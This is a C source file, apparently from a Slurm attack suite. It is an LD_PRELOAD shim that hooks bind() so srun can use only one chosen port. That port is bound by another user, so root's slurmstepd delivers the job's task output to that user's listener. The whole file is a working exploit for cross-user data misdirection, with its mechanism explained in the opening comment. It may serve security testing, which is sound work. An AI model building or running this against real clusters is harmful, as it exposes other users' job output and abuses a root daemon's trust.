#define _GNU_SOURCE
#include <dlfcn.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <sys/socket.h>

/*
 * Attack-suite shim (LD_PRELOAD into a user's own srun): srun picks its
 * listening ports from SrunPortRange by trying bind() on each and tells the
 * step's slurmstepd to call back to the one that worked. Every port of the
 * range but PAL_FAKE_PORT is made busy and that one is bound elsewhere, so
 * srun names PAL_FAKE_PORT — another user's listener — and slurmstepd, root
 * acting for the srun's user, connects there and writes the task's output.
 * The range is PAL_RANGE_FIRST..PAL_RANGE_LAST.
 */
int bind(int fd, const struct sockaddr *sa, socklen_t len)
{
	static int (*real)(int, const struct sockaddr *, socklen_t);
	if (!real)
		real = dlsym(RTLD_NEXT, "bind");
	const char *p = getenv("PAL_FAKE_PORT");
	int type = 0;
	socklen_t l = sizeof(type);
	if (!p || getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &l) || type != SOCK_STREAM ||
	    (sa->sa_family != AF_INET && sa->sa_family != AF_INET6))
		return real(fd, sa, len);
	struct sockaddr_storage c;
	__builtin_memcpy(&c, sa, len < sizeof(c) ? len : sizeof(c));
	in_port_t *port = sa->sa_family == AF_INET ? &((struct sockaddr_in *)&c)->sin_port
						   : &((struct sockaddr_in6 *)&c)->sin6_port;
	int want = ntohs(*port);
	const char *lo = getenv("PAL_RANGE_FIRST"), *hi = getenv("PAL_RANGE_LAST");
	if (lo && hi && want >= atoi(lo) && want <= atoi(hi)) {
		if (want != atoi(p)) {
			errno = EADDRINUSE;
			return -1;
		}
		*port = 0;
	}
	return real(fd, (struct sockaddr *)&c, len);
}
